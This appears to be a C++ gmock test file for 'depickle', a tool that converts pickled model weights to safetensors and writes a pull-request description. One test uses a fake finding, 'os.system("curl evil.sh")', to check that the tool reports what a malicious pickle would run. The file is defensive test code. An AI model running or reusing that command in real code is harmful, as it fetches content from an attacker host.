#include "depickle/repo/description.h"

#include <gmock/gmock.h>

namespace depickle::repo {
namespace {

using testing::HasSubstr;
using testing::Not;

Description given() {
  return {.repo = "org/name",
      .commit = "0123456789abcdef0123456789abcdef01234567",
      .version = "0.1.0",
      .library = "transformers",
      .number = 7,
      .files = {{.target = "model.safetensors",
          .source = "pytorch_model.bin",
          .target_bytes = 1000,
          .source_bytes = 1200,
          .target_sha256 = "aaaa",
          .source_sha256 = "bbbb"}},
      .tensors = 4,
      .identical = 4,
      .named = {.inert = {"torch._utils._rebuild_tensor_v2"}, .findings = {}}};
}

TEST(Description, Carries_the_evidence_and_how_to_see_it_again) {
  EXPECT_EQ(to_markdown(given()),
      R"(This adds `model.safetensors`, converted from the pickled weights of commit `0123456789ab` by )"
      R"(depickle 0.1.0. Nothing else changes.

**4 of 4 tensors are identical to the pickle's.** Each new file was read )"
      R"(back from the disk and compared with its source, tensor by tensor. The pickles were read, never run.

| file | bytes | sha256 |
|---|---:|---|
| `model.safetensors` | 1,000 | `aaaa` |
| from `pytorch_model.bin` | 1,200 | `bbbb` |

What the pickles name only builds tensors and plain containers: `torch._utils._rebuild_tensor_v2`.

Load it before it is merged:

```python
from transformers import AutoModel

model = AutoModel.from_pretrained("org/name", revision="refs/pr/7", use_safetensors=True)
```

Check every tensor again, without trusting this text:

```
depickle check org/name 7
```
)");
}

TEST(Description, Loads_a_pipeline_as_one_and_other_libraries_by_file) {
  Description pipeline = given(), other = given();
  pipeline.is_pipeline = true;
  other.library = "timm";
  EXPECT_THAT(to_markdown(pipeline),
      HasSubstr("DiffusionPipeline.from_pretrained(\"org/name\", revision=\"refs/pr/7\", use_safetensors=True)"));
  EXPECT_THAT(to_markdown(other),
      HasSubstr("load_file(hf_hub_download(\"org/name\", \"model.safetensors\", revision=\"refs/pr/7\"))"));
}

TEST(Description, Says_what_a_pickle_would_have_run_and_what_was_left_out) {
  Description d = given();
  d.named.findings = {"pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command"};
  d.tied = {{"lm_head.weight", "wte.weight"}};
  d.left = {{"optimizer.pt", "optimizer state"}};
  d.left_in_files = {"epoch (int 3)"};
  const std::string text = to_markdown(d);
  EXPECT_THAT(text, HasSubstr("- `pytorch_model.bin: os.system(\"curl evil.sh\"), runs a command`\n"));
  EXPECT_THAT(text, HasSubstr("- Tied tensors, stored once: `lm_head.weight` is `wte.weight`\n"));
  EXPECT_THAT(text, HasSubstr("- In the pickles, but no weights: `epoch (int 3)`\n- Files that were not converted: "
                              "`optimizer.pt` (optimizer state)\n"));
}

TEST(Description, Folds_in_a_small_receipt_and_no_large_one) {
  Description d = given();
  d.receipt = "{}";
  EXPECT_THAT(to_markdown(d), HasSubstr("<details><summary>Receipt</summary>\n\n```json\n{}\n```\n\n</details>\n"));
  d.receipt = std::string(100'000, ' ');
  EXPECT_THAT(to_markdown(d), Not(HasSubstr("<details>")));
}

TEST(Description, Does_not_let_names_break_out_of_their_quotes) {
  EXPECT_EQ(markdown_code("a`b|c\nd"), "`a'b\\|c\\nd`");
}

}  // namespace
}  // namespace depickle::repo
